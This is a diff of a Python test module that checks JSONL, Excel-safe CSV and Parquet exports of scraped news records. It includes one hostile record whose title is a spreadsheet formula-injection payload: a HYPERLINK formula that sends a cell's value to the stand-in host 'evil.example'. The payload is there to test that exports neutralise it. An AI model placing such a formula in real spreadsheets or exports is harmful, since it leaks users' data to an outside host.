@@ -1,12 +1,12 @@
 """Analyst exports: JSONL, Excel-safe CSV and typed Parquet of real extracted records.
 
-The records come from running the core on real pages (the seed page and farm pages copied
-to ``tests/fixtures/exports/farm``: a two-page gb2312 article with a date-only publish
-time, and one article published on two sites), plus one hostile record derived from them:
-a ``=HYPERLINK(...)`` title, a body with newlines, CR and quotes, and formula-looking
-keywords. Files are written by the real exporters; one test runs a real Scrapy crawl with
-the default FEEDS. :func:`article_records` and :func:`write_export` are reused by
-``test_load``.
+The records come from running the core on real pages (the seed page and dev-farm pages of
+``tests/fixtures/farm``, read through ``farmpages``: a two-page gb2312 article with a
+date-only publish time, and one article published on two sites), plus one hostile record
+derived from them: a ``=HYPERLINK(...)`` title, a body with newlines, CR and quotes, and
+formula-looking keywords. Files are written by the real exporters; one test runs a real
+Scrapy crawl with the default FEEDS. :func:`article_records` and :func:`write_export` are
+reused by ``test_load``.
 """
 
 from __future__ import annotations
@@ -27,6 +27,7 @@ import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from farmpages import farm_bytes
 from hypothesis import given
 from hypothesis import strategies as st
 from scrapy.exporters import BaseItemExporter, JsonLinesItemExporter
@@ -52,7 +53,6 @@ from vendornews.load import load
 from vendornews.record import FIELD_DOCS, FetchedPage, Record
 
 ROOT = Path(__file__).resolve().parents[1]
-FARM = ROOT / "tests/fixtures/exports/farm"
 SEED = ROOT / "tests/fixtures/seed_page/page.html"
 CRAWLED_AT = "2024-05-01T08:00:00+00:00"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
@@ -81,7 +81,7 @@ def _extracted() -> str:
     records = [_extract("http://www.example.com/news/1.html",
                         [("http://www.example.com/news/1.html", SEED.read_bytes())])]
     for url, files in ARTICLES.items():
-        pages = [(url if i == 0 else "http://farm.test/" + name, (FARM / name).read_bytes())
+        pages = [(url if i == 0 else "http://farm.test/" + name, farm_bytes(name))
                  for i, name in enumerate(files)]
         records.append(_extract(url, pages))
     return json.dumps(records, ensure_ascii=False)
